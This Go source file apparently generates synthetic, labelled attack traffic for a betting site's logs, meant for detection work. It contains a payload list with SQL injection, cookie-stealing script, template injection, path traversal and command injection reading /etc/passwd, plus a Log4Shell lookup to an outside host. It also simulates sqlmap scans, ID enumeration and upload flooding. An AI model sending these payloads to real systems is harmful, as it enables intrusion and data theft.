package main

import (
	"math/rand/v2"
	"strings"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// payloads are what injection attempts put into query values: SQL,
// script, template and path traversal.
var payloads = []string{
	"' OR '1'='1", "1' AND SLEEP(5)-- -", "1 UNION SELECT username,password FROM users--", "'; DROP TABLE bets;--",
	"1) OR 1=1#", "<script>alert(document.cookie)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
	"{{7*7}}", "${7*7}", "#{7*7}", "{{config.__class__.__init__.__globals__}}", "../../../../etc/passwd",
	"..%2f..%2f..%2fetc%2fpasswd", "....//....//windows/win.ini", "1;cat /etc/passwd", "${jndi:ldap://x.oast.fun/a}",
}

// rawQuery keeps a payload nearly as typed, replacing only what would end
// the query value.
var rawQuery = strings.NewReplacer(" ", "%20", "&", "%26", "#", "%23")

// injected is one request carrying a payload in a query value of an
// ordinary route; the site answers 400, 500 now and then, or 200.
func (d *day) injected(r *rand.Rand) Event {
	p := EncodeQuery(r, Pick(r, payloads), rawQuery, 0.4, 0.85)
	m := d.s.pickMatch(r)
	path := Pick(r, []string{
		"/api/v2/search?q=" + p,
		"/api/v2/events/" + itoa(m.id) + "/markets?include=" + p,
		"/api/v2/account/transactions?page=1&sort=" + p,
		"/api/v2/live/events?sport=" + p + "&lang=en",
		"/sport/football/live/" + slug(m) + "?ref=" + p,
	})
	return req(r, "GET", path, Pick(r, []int{400, 400, 200, 200, 500}), 0, 900, 30)
}

// injection either sprays payloads like a scanner, or hides them inside
// an ordinary signed-in session at 15–40 % of its requests.
func (d *day) injection(r *rand.Rand, a *actor) {
	from, to := d.span(r, 0.3)
	if Chance(r, 0.5) {
		a.ua = Pick(r, []string{"sqlmap/1.8.2#stable (https://sqlmap.org)", Pick(r, browsers)})
		to = min(to, from+Sec(LogUniform(r, 60, 500)))
		Poisson(r, LogUniform(r, 0.5, 6), from, to, func(t int64) { a.send(t, d.injected(r)) })
		return
	}
	a.attack, a.user, a.ua, a.hdr = false, userName(r), d.s.appUA(r), 600
	share, m := Uniform(r, 0.15, 0.4), d.s.pickMatch(r)
	seq := r.IntN(90000)
	e := d.injected(r)
	e.Attack = true
	a.send(from, e)
	Poisson(r, Uniform(r, 0.2, 0.6), from, to, func(t int64) {
		if Chance(r, share) {
			e := d.injected(r)
			e.Attack = true
			a.send(t, e)
			return
		}
		seq += r.IntN(40)
		a.send(t, Pick(r, []func() Event{
			func() Event { return oddsPoll(r, m, seq) },
			func() Event { return account(r) },
			func() Event { return markets(r, m) },
		})())
	})
}

// upload abuses the document upload: a stream of huge files, or dozens of
// ordinary-sized ones a minute.
func (d *day) upload(r *rand.Rand, a *actor) {
	from, to := d.span(r, 0.3)
	a.user = userName(r)
	if Chance(r, 0.5) {
		Poisson(r, Uniform(r, 0.03, 0.2), from, to, func(t int64) { a.send(t, kyc(r, LogUniform(r, 1e7, 1e8))) })
		return
	}
	Poisson(r, Uniform(r, 0.4, 1.5), from, to, func(t int64) { a.send(t, kyc(r, LogUniform(r, 1e6, 8e6))) })
}

// enumeration walks bet, transaction or account ids one by one from a
// signed-in account: 403s for other people's, 404s for the gaps.
func (d *day) enumeration(r *rand.Rand, a *actor) {
	from, to := d.span(r, 0.3)
	a.user = userName(r)
	base, step := 70000000+r.IntN(9000000), 1+r.IntN(3)
	tpl := Pick(r, []string{"/api/v2/bets/B%d", "/api/v2/account/transactions/%d", "/api/v2/users/%d/profile", "/api/v2/bets/B%d/cashout/quote"})
	i := 0
	Poisson(r, LogUniform(r, 0.8, 8), from, to, func(t int64) {
		i += step
		path := strings.Replace(tpl, "%d", itoa(base+i), 1)
		status := Pick(r, []int{403, 403, 403, 404, 404, 200})
		resp := 150.
		if status == 200 {
			resp = 1800
		}
		a.send(t, req(r, "GET", path, status, 0, resp, 25))
	})
}
